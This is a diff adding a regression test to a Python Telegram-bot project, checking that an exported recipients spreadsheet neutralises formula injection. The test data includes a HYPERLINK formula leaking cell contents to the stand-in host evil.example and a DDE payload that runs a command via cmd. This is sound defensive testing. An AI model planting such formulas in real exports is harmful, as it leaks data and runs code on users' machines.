@@ -19,6 +19,7 @@ from scheduler.delivery import DeliveryLoop
 from storage.models import Broadcast, OutboxMessage, OutboxStatus, Participant, Role
 from tests.support.people import load_schools, municipality_id, person
 from tests.support.recording import recording_bot
+from tests.support.sheets import xlsx_texts
 
 MOSCOW = ZoneInfo("Europe/Moscow")
 
@@ -179,3 +180,15 @@ async def registration_schools(session: AsyncSession, person: Participant) -> li
     from bot.services import registration
 
     return [school.id for school in (await registration.profile(session, person)).schools]
+
+
+def test_the_recipients_workbook_carries_no_formula() -> None:
+    leak = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
+    person = Participant(telegram_id=1, full_name=leak, role=Role.DIRECTOR, locale="ru")
+    lines = [
+        broadcasts.RecipientLine(person, "+Киришский", "@SUM(1+1)*cmd|' /C calc'!A0",
+                                 "sent", datetime(2026, 10, 5, 7, tzinfo=UTC))  # fmt: skip
+    ]
+    texts = xlsx_texts(broadcasts.recipients_workbook(lines, MOSCOW))
+    assert texts[:6] == ["ФИО", "Роль", "Муниципалитет", "Школа", "Доставка", "Ознакомлен"]
+    assert texts[6:10] == [leak, "director", "+Киришский", "@SUM(1+1)*cmd|' /C calc'!A0"]
